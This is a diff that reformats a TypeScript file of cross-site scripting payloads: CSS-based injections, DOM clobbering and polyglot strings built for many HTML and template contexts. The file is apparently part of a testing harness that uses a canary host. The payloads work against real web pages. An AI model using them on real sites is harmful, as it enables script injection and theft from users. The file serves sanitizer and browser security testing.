@@ -1,4 +1,5 @@
-// What needs no script of its own to do harm: styles, names that take the place of the page's own, and texts that fit many places at once.
+// What needs no script of its own to do harm: styles, names that take the place of the page's own, and texts
+// that fit many places at once.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
 const STYLES: readonly ((js: string) => string)[] = [
@@ -28,7 +29,8 @@ const KEYFRAMES: readonly Payload[] = [
   js => `<style>@import "data:text/css,*%7bx:expression(${js})%7d"</style>`,
   js => `<style>@import '${CANARY}/${js.length}.css'</style>`,
   js => `<style><!--</style><script>${js}//--></script>`,
-  js => `<style>@font-face{font-family:x;src:url(${CANARY}/${js.length}.woff)}p{font-family:x}</style><p>x</p>`,
+  js =>
+    `<style>@font-face{font-family:x;src:url(${CANARY}/${js.length}.woff)}p{font-family:x}</style><p>x</p>`,
 ]
 
 /** Names of the page's own things, taken by elements. */
@@ -48,15 +50,18 @@ const clobbering = crossed(
 const EVERYWHERE: readonly Payload[] = [
   js =>
     `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
-  js => `">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${js}><script>${js}</script>`,
+  js =>
+    `">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${js}><script>${js}</script>`,
   js => `'"()&%<acx><ScRiPt >${js}</ScRiPt>`,
   js => `';${js}//';${js}//";${js}//--></SCRIPT>">'><SCRIPT>${js}</SCRIPT>`,
   js => `" onclick=${js}//<button ' onclick=${js}//> */ ${js}//`,
   js => `<svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>`,
   js => `"'--></style></script><svg oNload=${js}>`,
-  js => `<a href='javascript:${js}' onclick="${js}" style="x:expression(${js})"><img src=x onerror='${js}'></a>`,
+  js =>
+    `<a href='javascript:${js}' onclick="${js}" style="x:expression(${js})"><img src=x onerror='${js}'></a>`,
   js => `{{constructor.constructor('${js}')()}}<p ng-app ng-csp>{{$eval.constructor('${js}')()}}</p>`,
-  js => `<p v-html="'<img src=x onerror=${js}>'" x-data="${js}" x-init="${js}" hx-on:load="${js}" data-bind="html:${js}">x</p>`,
+  js =>
+    `<p v-html="'<img src=x onerror=${js}>'" x-data="${js}" x-init="${js}" hx-on:load="${js}" data-bind="html:${js}">x</p>`,
   js => `\${${js}}<%= ${js} %>#{${js}}{%${js}%}`,
   js => `<x contenteditable onblur=${js}>x</x><x onclick=${js}>x</x><x oncut=${js}>x</x>`,
   js => `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${js}>x</p>`,
